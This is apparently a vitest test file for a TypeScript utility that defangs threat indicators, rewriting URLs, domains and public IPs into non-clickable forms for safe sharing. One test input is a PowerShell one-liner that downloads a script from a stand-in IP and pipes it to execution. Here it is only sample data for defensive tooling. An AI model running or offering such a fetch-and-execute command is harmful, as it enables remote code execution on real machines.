import { describe, expect, test } from 'vitest';
import { defangIndicator, defangText } from './defang.ts';

describe('defangText', () => {
  test.each([
    ['https://evil.example/a?b=c.d', 'hxxps://evil[.]example/a?b=c.d'],
    ['HTTP://Evil.Example', 'HxxP://Evil[.]Example'],
    ['ftp://files.evil.example/x', 'fxp://files[.]evil[.]example/x'],
    ['connects to 203.0.113.7:8080', 'connects to 203[.]0[.]113[.]7:8080'],
    ['powershell -c "iwr http://203.0.113.7/a.ps1 | iex"', 'powershell -c "iwr hxxp://203[.]0[.]113[.]7/a.ps1 | iex"'],
    ['10.0.5.13 and 172.16.0.1 are ours', '10.0.5.13 and 172.16.0.1 are ours'],
    ['version 10.0.19041.1', 'version 10.0.19041.1'],
    ['svchost.exe', 'svchost.exe'],
  ])('%s', (given, shown) => expect(defangText(given)).toBe(shown));

  test('twice is the same as once', () => {
    const once = defangText('https://evil.example and 203.0.113.7');
    expect(defangText(once)).toBe(once);
  });
});

describe('defangIndicator', () => {
  test.each([
    ['evil.example', 'evil[.]example'],
    ['mallory@evil.example', 'mallory@evil[.]example'],
    ['10.0.5.13', '10.0.5.13'],
    ['203.0.113.7', '203[.]0[.]113[.]7'],
    ['fe80::1', 'fe80::1'],
  ])('%s', (given, shown) => expect(defangIndicator(given)).toBe(shown));
});
